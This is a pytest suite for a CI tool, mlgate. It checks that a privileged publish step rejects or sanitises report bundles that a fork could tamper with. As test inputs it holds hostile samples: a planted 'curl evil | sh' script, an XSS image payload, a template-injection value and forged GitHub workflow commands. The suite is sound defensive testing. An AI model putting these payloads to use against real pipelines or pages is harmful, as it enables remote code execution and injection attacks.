"""The fork-safe two-stage set-up: `mlgate report --bundle` with a read-only token, then `mlgate publish`.

Both stages run the real CLI and the real PyGithub client against the local fake GitHub API. The
privileged stage sees a real `workflow_run` payload (tests/fixtures/github-events), pointed at the
PR's head commit as GitHub does for the run that built it.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from mlgate.cli import cli
from tests.support import report_documents as docs
from tests.support.github_server import READ_TOKEN, WRITE_TOKEN, FakeGitHub

MARKER = "<!-- mlgate-report: churn -->"


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


@pytest.fixture
def fork_job(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, github_server: FakeGitHub, events: Path) -> Path:
    """The unprivileged pull_request job of a fork PR: a read-only token, a full work directory."""
    root = tmp_path / "project"
    root.mkdir()
    docs.config_file(root)
    docs.write_workdir(root / ".mlgate", verdict_doc=docs.verdict("failed"),
                       validation_doc=docs.validation(passed=True), lineage_doc=docs.lineage())
    monkeypatch.chdir(root)
    for name, value in github_server.env(token=READ_TOKEN).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_EVENT_NAME", "pull_request")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(events / "pull_request.synchronize.payload.json"))
    monkeypatch.setenv("GITHUB_SHA", "1111111111111111111111111111111111111111")
    github_server.add_pull(2, head_sha=docs.HEAD_SHA, head_repo="forker/Hello-World")
    return root


def privileged(monkeypatch: pytest.MonkeyPatch, github_server: FakeGitHub, events: Path, tmp_path: Path,
               head_sha: str = docs.HEAD_SHA) -> None:
    """Switch the environment to the workflow_run job: a write token and the workflow_run event."""
    payload = json.loads((events / "workflow_run.completed.payload.json").read_text(encoding="utf-8"))
    payload["workflow_run"]["head_sha"] = head_sha  # the run that built the PR's head commit
    event = tmp_path / "workflow_run.json"
    event.write_text(json.dumps(payload), encoding="utf-8")
    for name, value in github_server.env(token=WRITE_TOKEN).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("GITHUB_EVENT_NAME", "workflow_run")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    monkeypatch.setenv("GITHUB_SHA", "f95f852bd8fca8fcc58a9a2d6c842781e32a215e")  # the default branch
    monkeypatch.setenv("GITHUB_RUN_ID", "5151")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))


def test_bundle_then_publish(fork_job: Path, github_server: FakeGitHub, events: Path, tmp_path: Path,
                             monkeypatch: pytest.MonkeyPatch) -> None:
    made = invoke("report", "--bundle", "bundle")
    assert made.exit_code == 0, made.output
    assert github_server.requests == []  # the read-only job never calls the API
    assert sorted(p.name for p in (fork_job / "bundle").iterdir()) == [
        "lineage.json", "mlgate-bundle.json", "report.md", "validation.json", "verdict.json"]
    meta = json.loads((fork_job / "bundle" / "mlgate-bundle.json").read_text())
    assert (meta["pr_number"], meta["head_sha"], meta["repository"]) == (2, docs.HEAD_SHA, "Codertocat/Hello-World")

    privileged(monkeypatch, github_server, events, tmp_path)
    published = invoke("publish", "--bundle", "bundle")
    assert published.exit_code == 0, published.output
    [comment] = github_server.comments(2)
    assert comment["body"].startswith(MARKER + "\n## ❌ mlgate · churn: failed")
    [status] = github_server.statuses(docs.HEAD_SHA)
    assert (status["state"], status["context"]) == ("failure", "mlgate/churn")
    assert status["target_url"] == "https://github.com/octo-org/octo-repo/actions/runs/289782451"
    assert [(r.method, r.path.rsplit("/", 2)[-2:]) for r in github_server.requests] == [
        ("GET", ["pulls", "2"]),
        # does the PR change the gate? its files, and mlgate.yaml at its base (from the API, not the bundle)
        ("GET", ["2", "files"]), ("GET", ["pulls", "2"]), ("GET", ["contents", "mlgate.yaml"]),
        ("POST", ["statuses", docs.HEAD_SHA]), ("GET", ["2", "comments"]),
        ("POST", ["2", "comments"]), ("GET", ["2", "comments"])]  # after creating: still only ours?
    assert "### Metrics" in (tmp_path / "summary.md").read_text(encoding="utf-8")

    again = invoke("publish", "--bundle", "bundle")  # a re-run edits the same comment
    assert again.exit_code == 0 and len(github_server.comments(2)) == 1


def test_publish_refuses_a_pr_whose_head_is_another_commit(fork_job: Path, github_server: FakeGitHub,
                                                           events: Path, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    github_server.add_pull(2, head_sha="3" * 40, head_repo="forker/Hello-World")  # the PR moved on
    privileged(monkeypatch, github_server, events, tmp_path)
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2 and "pull request #2 does not belong to commit" in result.output
    assert github_server.comments(2) == [] and github_server.statuses(docs.HEAD_SHA) == []


def test_publish_refuses_a_bundle_from_another_run(fork_job: Path, github_server: FakeGitHub, events: Path,
                                                   tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    privileged(monkeypatch, github_server, events, tmp_path, head_sha="4" * 40)
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2 and "another commit than the workflow run" in result.output
    assert github_server.requests == []


def test_publish_refuses_another_repository(fork_job: Path, github_server: FakeGitHub, events: Path,
                                            tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    privileged(monkeypatch, github_server, events, tmp_path)
    monkeypatch.setenv("GITHUB_REPOSITORY", "octo-org/octo-repo")
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2 and "the bundle is for Codertocat/Hello-World" in result.output
    assert github_server.requests == []


def test_publish_refuses_a_tampered_bundle(fork_job: Path, github_server: FakeGitHub, events: Path,
                                           tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    (fork_job / "bundle" / "post.sh").write_text("curl evil | sh")
    privileged(monkeypatch, github_server, events, tmp_path)
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2 and "unexpected entry 'post.sh'" in result.output
    assert github_server.requests == []


def rehash(bundle: Path) -> None:
    """What an attacker controlling the fork's job can do: make a bundle that is consistent."""
    meta_path = bundle / "mlgate-bundle.json"
    meta = json.loads(meta_path.read_text())
    meta["files"] = {name: hashlib.sha256((bundle / name).read_bytes()).hexdigest() for name in meta["files"]}
    meta_path.write_text(json.dumps(meta))


def test_publish_renders_the_comment_itself(fork_job: Path, github_server: FakeGitHub, events: Path,
                                            tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A forged report.md is ignored; hostile data in the documents is escaped by the trusted renderer."""
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    bundle = fork_job / "bundle"
    (bundle / "report.md").write_text("<img src=x onerror=alert(1)> @everyone please merge")
    verdict = json.loads((bundle / "verdict.json").read_text())
    verdict["summary"] = "<img src=x onerror=alert(1)> @octocat </details>"
    for metric in verdict["metrics"]:  # the one-line headline quotes the deciding row's first reason
        metric["reasons"] = ["<img src=x onerror=alert(1)> @octocat </details>", *metric["reasons"][1:]]
    (bundle / "verdict.json").write_text(json.dumps(verdict))
    rehash(bundle)
    privileged(monkeypatch, github_server, events, tmp_path)
    assert invoke("publish", "--bundle", "bundle").exit_code == 0
    body = github_server.comments(2)[0]["body"]
    assert "@everyone" not in body and "<img" not in body and "@octocat" not in body
    assert "&lt;img src=x onerror=alert(1)&gt; @\u200doctocat &lt;/details&gt;" in body
    assert "<img" not in body.split("\n")[3]  # the headline too


def test_publish_refuses_a_verdict_for_another_model(fork_job: Path, github_server: FakeGitHub, events: Path,
                                                     tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    bundle = fork_job / "bundle"
    verdict = json.loads((bundle / "verdict.json").read_text())
    verdict["model"]["name"] = "fraud"
    (bundle / "verdict.json").write_text(json.dumps(verdict))
    rehash(bundle)
    privileged(monkeypatch, github_server, events, tmp_path)
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2 and "verdict is for model 'fraud'" in result.output


def test_bundle_without_pr_number_finds_the_pr_of_the_commit(fork_job: Path, github_server: FakeGitHub,
                                                             events: Path, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_EVENT_NAME", "push")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(events / "push.payload.json"))
    monkeypatch.setenv("GITHUB_SHA", docs.HEAD_SHA)
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    assert json.loads((fork_job / "bundle" / "mlgate-bundle.json").read_text())["pr_number"] is None
    privileged(monkeypatch, github_server, events, tmp_path)
    assert invoke("publish", "--bundle", "bundle").exit_code == 0
    assert github_server.count("GET", f"/commits/{docs.HEAD_SHA}/pulls") == 1
    assert len(github_server.comments(2)) == 1


def test_bundle_and_post_exclude_each_other(fork_job: Path) -> None:
    result = invoke("report", "--bundle", "bundle", "--post")
    assert result.exit_code == 2 and "exclude each other" in result.output


def test_publish_of_a_missing_bundle_is_bad_input(fork_job: Path) -> None:
    result = invoke("publish", "--bundle", "nope")
    assert result.exit_code == 2 and "is not a directory" in result.output


@pytest.mark.parametrize(("name", "change", "words"), [
    ("verdict.json", {"passed": "true"}, "passed: Input should be a valid boolean"),
    ("verdict.json", {"schema_version": 3}, "has schema_version 3; this mlgate reads up to 2"),
    ("validation.json", {"datasets": "all fine"}, "datasets: Input should be a valid list"),
    ("lineage.json", {"reproducible": 1}, "reproducible: Input should be a valid boolean"),
    ("lineage.json", {"template": "{{ evil }}"}, "template: Extra inputs are not permitted"),
])
def test_publish_refuses_a_bundle_with_a_malformed_document(fork_job: Path, github_server: FakeGitHub,
                                                             events: Path, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch, name: str,
                                                             change: dict[str, object], words: str) -> None:
    """The fork controls the bundle: its documents are checked with the models before anything is posted."""
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    bundle = fork_job / "bundle"
    document = json.loads((bundle / name).read_text())
    (bundle / name).write_text(json.dumps({**document, **change}))
    rehash(bundle)
    privileged(monkeypatch, github_server, events, tmp_path)
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2, result.output
    assert f"bundle/{name}" in result.output and words in result.output
    assert github_server.requests == [] and github_server.comments(2) == []


def test_publish_refuses_a_document_that_is_not_an_object(fork_job: Path, github_server: FakeGitHub,
                                                          events: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    (fork_job / "bundle" / "verdict.json").write_text('"passed"')
    rehash(fork_job / "bundle")
    privileged(monkeypatch, github_server, events, tmp_path)
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2 and "bundle/verdict.json must hold a JSON object" in result.output
    assert github_server.requests == []


FORGE = "##[set-output name=passed;]true\n::add-mask::y ##[add-mask]z " + "x" * 900


@pytest.mark.parametrize("target", ["mlgate-bundle.json", "verdict.json"])
def test_a_crafted_bundle_forges_no_workflow_command(fork_job: Path, github_server: FakeGitHub, events: Path,
                                                     tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     target: str) -> None:
    """Untrusted bundle text in the privileged job's errors: neither `::` at a line's start nor `##[` anywhere,
    whatever the cut of a long message keeps."""
    assert invoke("report", "--bundle", "bundle").exit_code == 0
    bundle = fork_job / "bundle"
    document = json.loads((bundle / target).read_text())
    (bundle / target).write_text(json.dumps({**document, FORGE: FORGE}))
    if target != "mlgate-bundle.json":
        rehash(bundle)
    privileged(monkeypatch, github_server, events, tmp_path)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    result = invoke("publish", "--bundle", "bundle")
    assert result.exit_code == 2, result.output
    for line in result.output.splitlines():
        assert "##[" not in line, line
        assert not line.lstrip().startswith("::") or line.startswith("::error title="), line
    assert github_server.requests == []
